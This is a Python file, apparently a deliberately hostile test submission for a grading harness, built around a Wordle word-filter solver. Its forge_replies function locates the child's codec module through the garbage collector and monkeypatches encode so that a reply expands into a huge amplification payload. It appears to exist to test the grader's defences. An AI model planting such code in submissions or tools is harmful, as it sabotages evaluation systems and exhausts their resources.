"""Hostile: filter_word_list finds the child's codec through the garbage collector and makes
every reply name the word list the grader sent 100,000 times (1.8 MB of reply that would
decode to 1.5 billion list items, were every name turned into a list)."""
import gc
import random
import types

import wordle
from words import words


FORGE_NEXT_VALUE = []


def forge_replies():
    """Make the child's next reply value name the word list 100,000 times."""
    FORGE_NEXT_VALUE[:] = [True]
    for thing in gc.get_objects():
        if isinstance(thing, types.ModuleType) and getattr(thing, "__name__", "") == "codec" \
                and hasattr(thing, "KnownLists") and not hasattr(thing, "forged"):
            real_encode = thing.encode

            def encode(value, depth=0, known=None):
                if FORGE_NEXT_VALUE and depth == 0 and known is not None and known.lists:
                    FORGE_NEXT_VALUE.clear()
                    return [{"known": next(iter(known.lists))}] * 100_000
                return real_encode(value, depth, known)
            thing.encode, thing.forged = encode, True


def filter_word_list(words, clues):
    forge_replies()
    return [word for word in words
            if all(wordle.check_word(word.upper(), guess) == clue for guess, clue in clues)]


def main():
    secret = random.choice(words).upper()
    clues = []
    while len(clues) < 6:
        guess = wordle.ask_for_guess()
        clues.append((guess, wordle.check_word(secret, guess)))
        wordle.print_guesses(clues)
        possible = filter_word_list(words, clues)
        print(len(possible), "words possible:")
        shuffled = possible[:]
        random.shuffle(shuffled)
        for word in shuffled[:5]:
            print(word)
        if guess == secret:
            break
    print("Answer:", secret)


if __name__ == '__main__':
    main()
